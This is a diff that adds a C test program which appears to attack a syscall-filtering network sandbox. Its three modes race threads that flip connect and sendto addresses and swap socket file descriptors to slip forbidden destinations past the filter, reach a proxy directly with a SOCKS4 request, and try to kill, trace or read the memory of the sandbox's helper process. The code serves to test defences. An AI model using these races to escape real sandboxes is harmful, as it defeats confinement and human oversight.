@@ -1,0 +1,271 @@
+/* attack4_fastpath: attacks on the fast path (allowed connects and datagrams
+ * answered CONTINUE, the kernel reading the address and the fd number again).
+ *
+ *   proxy-flip OKHOST OKPORT PROXYHOST PROXYPORT N
+ *       TCP connects to an address another thread flips between an allowed
+ *       destination and the proxy; whenever a connection ends up at the proxy
+ *       itself (getpeername), not at a relay in front of it, sends a SOCKS4
+ *       request by address on it. Prints "direct=D ok=O refused=R other=X".
+ *   variants OKHOST OKPORT BAD4HOST BAD4PORT BAD6PORT N
+ *       UDP sendto of a 28-byte address buffer that another thread rewrites
+ *       between the allowed sockaddr_in and forbidden spellings: a plain
+ *       sockaddr_in, the same with family AF_UNSPEC (udp_sendmsg takes it as
+ *       AF_INET), a v4-mapped sockaddr_in6 and [::1]:BAD6PORT; a second thread
+ *       swaps the fd number between an IPv4 UDP socket, an IPv6 UDP socket, a
+ *       unix datagram socket and a netlink socket. Prints
+ *       "ok=O refused=R other=X".
+ *   maker SELF_EXE
+ *       finds the socket maker (comm "sockstrace-mkr") and tries to reach it:
+ *       kill, ptrace, prlimit, its /proc entries, pidfd_getfd of its channel.
+ *       One line per try: "NAME ok" or "NAME errno=E".
+ */
+#define _GNU_SOURCE
+#include <arpa/inet.h>
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <linux/netlink.h>
+#include <netinet/in.h>
+#include <pthread.h>
+#include <signal.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/ptrace.h>
+#include <sys/resource.h>
+#include <sys/socket.h>
+#include <sys/syscall.h>
+#include <sys/uio.h>
+#include <unistd.h>
+
+static volatile int stop_flag;
+
+static void usage(void) {
+    fprintf(stderr, "usage: attack4_fastpath proxy-flip|variants|maker ...\n");
+    exit(2);
+}
+
+static struct sockaddr_in addr4(const char *host, const char *port) {
+    struct sockaddr_in sin;
+    memset(&sin, 0, sizeof(sin));
+    sin.sin_family = AF_INET;
+    sin.sin_port = htons((uint16_t)atoi(port));
+    if (inet_pton(AF_INET, host, &sin.sin_addr) != 1)
+        usage();
+    return sin;
+}
+
+/* ---- proxy-flip ---- */
+
+static struct sockaddr_in flip_ok, flip_proxy;
+static struct sockaddr_in flip_shared;
+
+static void *connect_flipper(void *arg) {
+    (void)arg;
+    volatile struct sockaddr_in *t = &flip_shared;
+    while (!stop_flag) {
+        t->sin_addr = flip_proxy.sin_addr;
+        t->sin_port = flip_proxy.sin_port;
+        t->sin_addr = flip_ok.sin_addr;
+        t->sin_port = flip_ok.sin_port;
+    }
+    return NULL;
+}
+
+static int proxy_flip(char **argv) {
+    flip_ok = addr4(argv[0], argv[1]);
+    flip_proxy = addr4(argv[2], argv[3]);
+    long n = atol(argv[4]);
+    flip_shared = flip_ok;
+    pthread_t t;
+    pthread_create(&t, NULL, connect_flipper, NULL);
+    long direct = 0, ok = 0, refused = 0, other = 0;
+    /* SOCKS4 CONNECT to 192.0.2.1:80 by address, user "x". */
+    static const unsigned char socks4[] = {4, 1, 0, 80, 192, 0, 2, 1, 'x', 0};
+    for (long i = 0; i < n; i++) {
+        int s = socket(AF_INET, SOCK_STREAM, 0);
+        if (connect(s, (struct sockaddr *)&flip_shared, sizeof(flip_shared)) == 0) {
+            ok++;
+            struct sockaddr_in peer;
+            socklen_t len = sizeof(peer);
+            if (getpeername(s, (struct sockaddr *)&peer, &len) == 0 &&
+                peer.sin_addr.s_addr == flip_proxy.sin_addr.s_addr && peer.sin_port == flip_proxy.sin_port) {
+                direct++;
+                (void)!write(s, socks4, sizeof(socks4));
+            }
+        } else if (errno == EPERM) {
+            refused++;
+        } else {
+            other++;
+        }
+        close(s);
+    }
+    stop_flag = 1;
+    pthread_join(t, NULL);
+    printf("direct=%ld ok=%ld refused=%ld other=%ld\n", direct, ok, refused, other);
+    return 0;
+}
+
+/* ---- variants ---- */
+
+#define NVARIANTS 4
+static unsigned char var_ok[28];
+static unsigned char var_bad[NVARIANTS][28];
+static unsigned char var_shared[28] __attribute__((aligned(8)));
+static volatile int var_fd = -1;
+
+static void *variant_flipper(void *arg) {
+    (void)arg;
+    volatile unsigned char *t = var_shared;
+    for (unsigned i = 0; !stop_flag; i++) {
+        const unsigned char *bad = var_bad[i % NVARIANTS];
+        for (int k = 0; k < 28; k++)
+            t[k] = bad[k];
+        for (int k = 0; k < 28; k++)
+            t[k] = var_ok[k];
+    }
+    return NULL;
+}
+
+static void *variant_swapper(void *arg) {
+    (void)arg;
+    for (unsigned i = 0; !stop_flag; i++) {
+        int s;
+        switch (i % 4) {
+        case 0: s = socket(AF_INET, SOCK_DGRAM, 0); break;
+        case 1: s = socket(AF_INET6, SOCK_DGRAM, 0); break;
+        case 2: s = socket(AF_UNIX, SOCK_DGRAM, 0); break;
+        default: s = socket(AF_NETLINK, SOCK_DGRAM, NETLINK_ROUTE); break;
+        }
+        if (s < 0)
+            continue;
+        dup2(s, var_fd);
+        close(s);
+    }
+    return NULL;
+}
+
+static int variants(char **argv) {
+    struct sockaddr_in ok = addr4(argv[0], argv[1]);
+    struct sockaddr_in bad = addr4(argv[2], argv[3]);
+    uint16_t bad6port = htons((uint16_t)atoi(argv[4]));
+    long n = atol(argv[5]);
+    memcpy(var_ok, &ok, sizeof(ok));
+    memcpy(var_bad[0], &bad, sizeof(bad));
+    struct sockaddr_in unspec = bad;
+    unspec.sin_family = AF_UNSPEC;
+    memcpy(var_bad[1], &unspec, sizeof(unspec));
+    struct sockaddr_in6 mapped;
+    memset(&mapped, 0, sizeof(mapped));
+    mapped.sin6_family = AF_INET6;
+    mapped.sin6_port = bad.sin_port;
+    mapped.sin6_addr.s6_addr[10] = 0xff;
+    mapped.sin6_addr.s6_addr[11] = 0xff;
+    memcpy(&mapped.sin6_addr.s6_addr[12], &bad.sin_addr, 4);
+    memcpy(var_bad[2], &mapped, sizeof(mapped));
+    struct sockaddr_in6 lo6;
+    memset(&lo6, 0, sizeof(lo6));
+    lo6.sin6_family = AF_INET6;
+    lo6.sin6_port = bad6port;
+    lo6.sin6_addr = in6addr_loopback;
+    memcpy(var_bad[3], &lo6, sizeof(lo6));
+    memcpy(var_shared, var_ok, sizeof(var_shared));
+    var_fd = socket(AF_INET, SOCK_DGRAM, 0);
+    pthread_t flip, swap;
+    pthread_create(&flip, NULL, variant_flipper, NULL);
+    pthread_create(&swap, NULL, variant_swapper, NULL);
+    long oks = 0, refused = 0, other = 0;
+    for (long i = 0; i < n; i++) {
+        ssize_t r = sendto(var_fd, "x", 1, MSG_DONTWAIT, (struct sockaddr *)var_shared, sizeof(var_shared));
+        if (r >= 0)
+            oks++;
+        else if (errno == EPERM)
+            refused++;
+        else
+            other++;
+    }
+    stop_flag = 1;
+    pthread_join(flip, NULL);
+    pthread_join(swap, NULL);
+    printf("ok=%ld refused=%ld other=%ld\n", oks, refused, other);
+    return 0;
+}
+
+/* ---- maker ---- */
+
+static void report(const char *name, long r) {
+    if (r >= 0)
+        printf("%s ok\n", name);
+    else
+        printf("%s errno=%d\n", name, errno);
+    fflush(stdout);
+}
+
+static pid_t find_maker(void) {
+    DIR *d = opendir("/proc");
+    if (!d)
+        return -1;
+    struct dirent *e;
+    pid_t found = -1;
+    while ((e = readdir(d)) != NULL) {
+        pid_t pid = atoi(e->d_name);
+        if (pid <= 0)
+            continue;
+        char path[64], comm[64] = {0};
+        snprintf(path, sizeof(path), "/proc/%d/comm", pid);
+        int fd = open(path, O_RDONLY);
+        if (fd < 0)
+            continue;
+        ssize_t r = read(fd, comm, sizeof(comm) - 1);
+        close(fd);
+        if (r > 0 && strncmp(comm, "sockstrace-mkr", 14) == 0) {
+            found = pid;
+            break;
+        }
+    }
+    closedir(d);
+    return found;
+}
+
+static int maker(void) {
+    pid_t pid = find_maker();
+    if (pid < 0) {
+        printf("maker not found\n");
+        return 1;
+    }
+    printf("maker found\n");
+    char path[64];
+    snprintf(path, sizeof(path), "/proc/%d/ns/net", pid);
+    report("open-netns", open(path, O_RDONLY));
+    snprintf(path, sizeof(path), "/proc/%d/mem", pid);
+    report("open-mem", open(path, O_RDWR));
+    snprintf(path, sizeof(path), "/proc/%d/fd/3", pid);
+    report("open-fd", open(path, O_RDWR));
+    int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
+    report("pidfd-open", pidfd);
+    if (pidfd >= 0)
+        report("pidfd-getfd", syscall(SYS_pidfd_getfd, pidfd, 3, 0));
+    char buf[16];
+    struct iovec local = {buf, sizeof(buf)}, remote = {(void *)0x400000, sizeof(buf)};
+    report("process-vm-readv", process_vm_readv(pid, &local, 1, &remote, 1, 0));
+    report("ptrace-attach", ptrace(PTRACE_ATTACH, pid, 0, 0));
+    report("ptrace-seize", ptrace(PTRACE_SEIZE, pid, 0, 0));
+    report("kill-stop", kill(pid, SIGSTOP));
+    report("kill-kill", kill(pid, SIGKILL));
+    struct rlimit none = {0, 0};
+    report("prlimit-nofile", prlimit(pid, RLIMIT_NOFILE, &none, NULL));
+    return 0;
+}
+
+int main(int argc, char **argv) {
+    if (argc < 2)
+        usage();
+    if (strcmp(argv[1], "proxy-flip") == 0 && argc == 7)
+        return proxy_flip(argv + 2);
+    if (strcmp(argv[1], "variants") == 0 && argc == 8)
+        return variants(argv + 2);
+    if (strcmp(argv[1], "maker") == 0)
+        return maker();
+    usage();
+    return 2;
+}
